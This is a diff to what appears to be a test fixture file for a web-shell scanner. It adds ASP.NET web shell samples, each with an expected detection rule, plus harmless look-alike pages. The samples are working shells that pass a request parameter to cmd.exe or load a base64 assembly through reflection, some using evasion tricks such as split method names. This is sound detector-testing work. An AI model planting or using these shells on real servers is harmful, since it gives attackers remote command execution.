@@ -85,7 +85,80 @@ SHELLS = [
     ),
 ]
 
+# A method picked from its type's list by a test of its name, not looked up by it: LINQ's First
+# (after a Where too), Array.Find, VB's lambda, a loop over the methods that stops at the name,
+# and a delegate's DynamicInvoke.
+INVOKE = '.Invoke(null, new object[] { "cmd.exe", "/c " + Request["c"] });'
+SHELLS += [
+    (
+        "linq-first.aspx",
+        cs_page(
+            "typeof(System.Diagnostics.Process).GetMethods()"
+            '.First(m => m.Name == "St" + "art" && m.GetParameters().Length == 2)' + INVOKE
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'", "called by reflection as Process.Start"],
+    ),
+    (
+        "linq-where.aspx",
+        cs_page(
+            'var mi = Type.GetType("System.Diagnostics.Process, System").GetMethods()'
+            '.Where(x => x.Name.Equals("Start") && x.GetParameters().Length == 2).FirstOrDefault();\nmi' + INVOKE
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'", "called by reflection as Process.Start"],
+    ),
+    (
+        "array-find.aspx",
+        cs_page(
+            'var mi = Array.Find(typeof(System.Reflection.Assembly).GetMethods(), m => "Load" == m.Name);\n'
+            'mi.Invoke(null, new object[] { Convert.FromBase64String(Request.Form["z"]) });'
+        ),
+        "EXH-WS-CODE-ASSEMBLY",
+        ["form field 'z'", "called by reflection as Assembly.Load"],
+    ),
+    (
+        "vb-first.aspx",
+        vb_page(
+            "Dim mi = GetType(System.Diagnostics.Process).GetMethods()"
+            '.First(Function(m) m.Name = "Start" AndAlso m.GetParameters().Length = 2)\n'
+            'mi.Invoke(Nothing, New Object() {"cmd.exe", "/c " & Request("c")})'
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'", "called by reflection as Process.Start"],
+    ),
+    (
+        "foreach.aspx",
+        cs_page(
+            "foreach (var m in typeof(System.Diagnostics.Process).GetMethods()) {\n"
+            '  if (m.Name == "Start" && m.GetParameters().Length == 2) { m' + INVOKE + " break; }\n}"
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'", "called by reflection as Process.Start"],
+    ),
+    (
+        "dynamic-invoke.aspx",
+        cs_page(
+            "Delegate d = Delegate.CreateDelegate(typeof(Func<string, System.Diagnostics.Process>), "
+            'typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string) }));\n'
+            'd.DynamicInvoke(Request["c"]);'
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'", "called by reflection as Process.Start"],
+    ),
+]
+
 BENIGN = [
+    (
+        "linq-tostring.aspx",
+        # A harmless method picked by name, or methods picked by a test that names none.
+        cs_page(
+            'var mi = typeof(System.Text.StringBuilder).GetMethods().First(m => m.Name == "ToString");\n'
+            'lit.Text = Server.HtmlEncode((string)mi.Invoke(new System.Text.StringBuilder(Request["x"]), null));\n'
+            "var any = typeof(System.Diagnostics.Process).GetMethods().First(m => m.GetParameters().Length == 0);\n"
+            'lit.Text += any.Name + Server.HtmlEncode(Request["y"]);'
+        ),
+    ),
     (
         "formatter.aspx",
         # A page calling its own formatter found by name, with the visitor's text.
